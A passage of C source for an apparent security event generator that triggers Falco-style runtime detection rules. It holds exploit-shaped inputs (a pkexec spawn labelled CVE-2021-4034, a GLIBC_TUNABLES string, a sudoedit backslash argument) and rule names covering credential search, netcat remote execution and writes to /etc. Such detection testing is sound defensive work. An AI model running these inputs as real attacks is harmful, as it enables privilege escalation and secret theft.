		diag("cannot rename /bin/true.evgen back: %s", strerror(errno));
	return 0;
}

static int act_modify_entrypoint(void)
{
	int fd = open("/proc/self/fd/1", O_WRONLY | O_CLOEXEC);

	out("action=ModifyContainerEntrypoint pid=%d fd=%d", getpid(), fd);
	if (fd >= 0)
		close(fd);
	return 0;
}

static int shell_config(const char *action, int read_back)
{
	char dir[PATH_MAX], path[PATH_MAX + 16];
	int fd;

	if (make_tempdir(dir, sizeof(dir), "evgen-rc-") < 0)
		return 1;
	snprintf(path, sizeof(path), "%s/.bashrc", dir);
	write_file(path, "# evgen\n", 0644, O_TRUNC);
	if (read_back) {
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd >= 0)
			close(fd);
	}
	out("action=%s pid=%d file=%s", action, getpid(), path);
	unlink(path);
	rmdir(dir);
	return 0;
}

static int act_modify_shell_config(void)
{
	return shell_config("ModifyShellConfigurationFile", 0);
}

static int act_read_shell_config(void)
{
	return shell_config("ReadShellConfigurationFile", 1);
}

static int act_non_sudo_setuid(void)
{
	pid_t p = fork();
	int st;

	if (p == 0) {
		long a, b;

		(void)!setgid(DAEMON_GID);
		a = syscall(SYS_setuid, DAEMON_UID);
		b = syscall(SYS_setuid, 0);
		out("action=NonSudoSetuid pid=%d ret1=%ld ret2=%ld", getpid(), a, b);
		_exit(0);
	}
	if (p > 0)
		waitpid(p, &st, 0);
	return 0;
}

static int act_polkit(void)
{
	char *argv[] = {"pkexec", NULL};
	pid_t p = spawn(argv, NULL, DAEMON_UID, DAEMON_GID, NULL);

	out("action=PolkitLocalPrivilegeEscalationVulnerabilityCVE20214034 pid=%d child=%d",
	    getpid(), p);
	return 0;
}

static int act_glibc_tunables(void)
{
	static const char *const env[] = {
		"GLIBC_TUNABLES=glibc.tune.hwcaps=-WAITED,glibc.tune.secrets=2", NULL};
	char *argv[] = {"sh", "-c", "id > /dev/null", NULL};
	pid_t p = spawn(argv, env, (uid_t)-1, (gid_t)-1, NULL);

	out("action=PotentialLocalPrivilegeEscalationViaEnvironmentVariablesMisuse pid=%d child=%d",
	    getpid(), p);
	return 0;
}

static int act_http_proxy(void)
{
	static const char *const env[] = {"HTTP_PROXY=http://example.com:3128", NULL};
	char *argv[] = {"curl", "http://example.com", NULL};
	pid_t p = spawn(argv, env, (uid_t)-1, (gid_t)-1, NULL);

	out("action=ProgramRunWithDisallowedHttpProxyEnv pid=%d child=%d", getpid(), p);
	return 0;
}

static int act_setuid_bit(void)
{
	char dir[PATH_MAX], path[PATH_MAX + 16];
	int r;

	if (make_tempdir(dir, sizeof(dir), "evgen-suid-") < 0)
		return 1;
	snprintf(path, sizeof(path), "%s/file", dir);
	write_file(path, "x\n", 0644, O_TRUNC);
	r = chmod(path, 04644);
	out("action=SetSetuidOrSetgidBit pid=%d file=%s errno=%d", getpid(), path,
	    r < 0 ? errno : 0);
	unlink(path);
	rmdir(dir);
	return 0;
}

static int act_sudoedit(void)
{
	char *argv[] = {"sudoedit", "-u", "daemon", "-s", "ls\\", NULL};
	pid_t p = spawn(argv, NULL, DAEMON_UID, DAEMON_GID, NULL);

	out("action=SudoPotentialPrivilegeEscalation pid=%d child=%d", getpid(), p);
	return 0;
}

static int act_system_procs_net(void)
{
	pid_t p = spawn_as("sha1sum", "NetworkActivity", NULL, (uid_t)-1, (gid_t)-1);

	out("action=SystemProcsNetworkActivity pid=%d child=%d", getpid(), p);
	return 0;
}

static int act_unexpected_udp(void)
{
	TOOL("UnexpectedUDPTraffic", "nc", "-u", PUBLIC_IP, "22");
}

static int act_userfaultfd(void)
{
	pid_t p = fork();
	int st;

	if (p == 0) {
		long r;

		(void)!setgid(65534);
		(void)!setuid(65534);
		r = syscall(SYS_userfaultfd, 0);
		out("action=UnprivilegedDelegationOfPageFaultsHandlingToAUserspaceProcess pid=%d "
		    "ret=%ld errno=%d",
		    getpid(), r, r < 0 ? errno : 0);
		_exit(0);
	}
	if (p > 0)
		waitpid(p, &st, 0);
	return 0;
}

static int act_user_mgmt(void)
{
	pid_t p = spawn_as("vipw", "ExecLs", NULL, (uid_t)-1, (gid_t)-1);

	out("action=UserMgmtBinaries pid=%d child=%d", getpid(), p);
	return 0;
}

static int act_write_bin(void)
{
	return create_temp_in("WriteBelowBinaryDir", "/bin");
}
static int act_write_etc(void)
{
	return create_temp_in("WriteBelowEtc", "/etc");
}
static int act_write_lib(void)
{
	mkdir("/lib", 0755); /* busybox images have none */
	return create_temp_in("WriteBelowMonitoredDir", "/lib");
}
static int act_write_root(void)
{
	return create_temp_in("WriteBelowRoot", "/root");
}
static int act_write_rpm(void)
{
	mkdir("/var/lib", 0755);
	mkdir("/var/lib/rpm", 0755);
	return create_temp_in("WriteBelowRpmDatabase", "/var/lib/rpm");
}

static int act_noop(void)
{
	return 0;
}

struct action {
	const char *name;
	int (*fn)(void);
};

static const struct action actions[] = {
	/* enabled by default (falco_rules.yaml, two incubating) */
	{"ClearLogActivities", act_clear_log},
	{"CreateHardlinkOverSensitiveFiles", act_hardlink},
	{"CreateSymlinkOverSensitiveFiles", act_symlink},
	{"DebugfsLaunchedInPrivilegedContainer", act_debugfs},
	{"DetectReleaseAgentFileContainerEscapes", act_release_agent},
	{"DirectoryTraversalMonitoredFileRead", act_dir_traversal},
	{"DisallowedSSHConnectionNonStandardPort", act_ssh},
	{"DropAndExecuteNewBinaryInContainer", act_drop_exec},
	{"ExecutionFromDevShm", act_dev_shm},
	{"FilelessExecutionViaMemfdCreate", act_memfd},
	{"FindAwsCredentials", act_find_aws},
	{"LaunchSuspiciousNetworkToolOnHost", act_nmap_host},
	{"MountLaunchedInPrivilegedContainer", act_mount},
	{"NetcatRemoteCodeExecutionInContainer", act_netcat},
	{"PacketSocketCreatedInContainer", act_packet_socket},
	{"PtraceAntiDebugAttempt", act_ptrace_traceme},
	{"PtraceAttachedToProcess", act_ptrace_attach},
	{"ReadSensitiveFileTrustedAfterStartup", act_trusted_after_startup},
	{"ReadSensitiveFileUntrusted", act_untrusted},
	{"RemoveBulkDataFromDisk", act_shred},
	{"RunShellUntrusted", act_run_shell_untrusted},
	{"SearchPrivateKeysOrPasswords", act_search_keys},
	{"SystemUserInteractive", act_system_user_interactive},
	/* vigil's own, for the stable rules without an action */
	{"ContactK8SAPIServerFromContainer", act_k8s_api},
	{"RedirectStdoutStdinToNetworkConnectionInContainer", act_redirect},
	{"LinuxKernelModuleInjectionDetected", act_kmod},
	/* disabled by default */
	{"AddingSshKeysToAuthorizedKeys", act_authorized_keys},
	{"ChangeNamespacePrivilegesViaUnshare", act_unshare},
	{"ChangeThreadNamespace", act_setns},
	{"ContactEC2InstanceMetadataServiceFromContainer", act_ec2},
	{"ContainerDriftDetectedChmod", act_drift_chmod},
	{"ContainerDriftDetectedOpenCreate", act_drift_open_create},
	{"CreateFilesBelowDev", act_files_below_dev},
	{"CreateHiddenFilesOrDirectories", act_hidden},
	{"DbProgramSpawnedProcess", act_db_spawned},
	{"DecodingPayloadInContainer", act_decoding_payload},
	{"DeleteOrRenameShellHistory", act_shell_history},
	{"DetectCryptoMinersUsingTheStratumProtocol", act_stratum},
	{"InterpretedProcsInboundNetworkActivity", act_interpreted_inbound},
	{"InterpretedProcsOutboundNetworkActivity", act_interpreted_outbound},
	{"JavaProcessClassFileDownload", act_java_download},
	{"KubernetesClientToolLaunchedInContainer", act_kubectl},
	{"LaunchIngressRemoteFileCopyToolsInContainer", act_ingress_copy},
	{"LaunchPackageManagementProcessInContainer", act_pkg_mgmt},
	{"LaunchRemoteFileCopyToolsInContainer", act_remote_copy},
	{"LaunchSuspiciousNetworkToolInContainer", act_nmap_container},
	{"MkdirBinaryDirs", act_mkdir_bin},
	{"ModifyBinaryDirs", act_modify_bin},
	{"ModifyContainerEntrypoint", act_modify_entrypoint},
	{"ModifyShellConfigurationFile", act_modify_shell_config},
	{"NonSudoSetuid", act_non_sudo_setuid},
	{"PolkitLocalPrivilegeEscalationVulnerabilityCVE20214034", act_polkit},
	{"PotentialLocalPrivilegeEscalationViaEnvironmentVariablesMisuse", act_glibc_tunables},
	{"ProgramRunWithDisallowedHttpProxyEnv", act_http_proxy},
	{"ReadEnvironmentVariableFromProcFiles", act_environ},
	{"ReadShellConfigurationFile", act_read_shell_config},
	{"ReadSshInformation", act_read_ssh_info},
	{"ScheduleCronJobs", act_crontab},
	{"SetSetuidOrSetgidBit", act_setuid_bit},
	{"SudoPotentialPrivilegeEscalation", act_sudoedit},
	{"SystemProcsNetworkActivity", act_system_procs_net},
	{"UnexpectedUDPTraffic", act_unexpected_udp},
	{"UnprivilegedDelegationOfPageFaultsHandlingToAUserspaceProcess", act_userfaultfd},
	{"UserMgmtBinaries", act_user_mgmt},
	{"WriteBelowBinaryDir", act_write_bin},
	{"WriteBelowEtc", act_write_etc},
	{"WriteBelowMonitoredDir", act_write_lib},
	{"WriteBelowRoot", act_write_root},
	{"WriteBelowRpmDatabase", act_write_rpm},
	/* helpers (event-generator's utility actions) */
	{"RunShell", act_run_shell},
	{"ExecLs", act_exec_ls},
	{"InboundConnection", act_inbound_connection},
	{"OutboundConnection", act_outbound_connection},
	{"NetworkActivity", act_network_activity},
	{"CombinedServerClient", act_combined_server_client},
	{"ReadSensitiveFileTrustedAfterStartup.inner", act_trusted_after_startup_inner},
	{"noop", act_noop},
};

static const struct action *find_action(const char *name)
{
	for (size_t i = 0; i < ELEMENTSOF(actions); i++)
		if (strcmp(actions[i].name, name) == 0)
			return &actions[i];
	return NULL;
}

/* ---- tool personas ----------------------------------------------------------------------- */

static int tool_ssh(int argc, char **argv)
{
	const char *host = NULL, *at;
	int port = 22, err, fd;

	for (int i = 1; i < argc; i++) {
		if (strcmp(argv[i], "-p") == 0 && i + 1 < argc)
			port = atoi(argv[++i]);
		else if (argv[i][0] != '-')
			host = argv[i];
	}
	if (!host)
		return 255;
	at = strchr(host, '@');
	fd = dial(at ? at + 1 : host, port, SOCK_STREAM, &err);
	sleep_ms(100);
	if (fd >= 0)
		close(fd);
	return err && err != EINPROGRESS ? 255 : 0;
}

static int tool_nc(int argc, char **argv)
{
	int udp = 0, port = 0, err, fd;
	const char *host = NULL;

	for (int i = 1; i < argc; i++) {
		if (strcmp(argv[i], "-u") == 0)
			udp = 1;
		else if (strcmp(argv[i], "-e") == 0 || strcmp(argv[i], "-c") == 0)
			i++;
		else if (argv[i][0] != '-') {
			if (!host)
				host = argv[i];
			else
				port = atoi(argv[i]);
		}
	}
	if (!udp || !host || !port)
		return 0; /* the exec is what the rules look at */
	fd = dial(host, port, SOCK_DGRAM, &err);
	if (fd >= 0) {
		if (!err)
			(void)!send(fd, "x", 1, MSG_DONTWAIT);
		close(fd);
	}
	return 0;
}

static const char *base_name(const char *p)
{
	const char *s = strrchr(p, '/');

	return s ? s + 1 : p;
}

static void usage(void)
{
	fprintf(stderr, "usage: evgen-actions list | run ACTION... | ACTION\n");
}

static int run_one(const char *name)
{
	const struct action *a = find_action(name);

	if (!a) {
		diag("unknown action '%s'", name);
		return 2;
	}
	return a->fn();
}

int main(int argc, char **argv)
{
	const char *me = argc > 0 ? base_name(argv[0]) : "evgen-actions";
	ssize_t n;

	n = readlink("/proc/self/exe", self_exe, sizeof(self_exe) - 1);
	if (n > 0)
		self_exe[n] = '\0';
	setvbuf(stdout, NULL, _IONBF, 0);

	/* a persona: started under a tool's name */
	if (strncmp(me, "evgen-actions", 13) != 0 && strncmp(me, "evgen-drop-", 11) != 0 &&
	    strcmp(me, "program") != 0) {
		progname = me;
		if (argc >= 2 && find_action(argv[1]))
			return run_one(argv[1]);
		if (strcmp(me, "ssh") == 0)
			return tool_ssh(argc, argv);
		if (strcmp(me, "nc") == 0)
			return tool_nc(argc, argv);
		return 0;
	}
	if (argc < 2) {
		usage();
		return 2;
	}
	if (strcmp(argv[1], "list") == 0) {
		for (size_t i = 0; i < ELEMENTSOF(actions); i++)
			printf("%s\n", actions[i].name);
		return 0;
	}
	if (strcmp(argv[1], "run") == 0) {
		int rc = 0;

		for (int i = 2; i < argc; i++) {
			pid_t p = fork();
			int st = 0;

			if (p == 0)
				_exit(run_one(argv[i]));
			if (p < 0 || waitpid(p, &st, 0) < 0 || !WIFEXITED(st) || WEXITSTATUS(st))
				rc = 1;
			sleep_ms(20);
		}
		return rc;
	}
	return run_one(argv[1]);
}
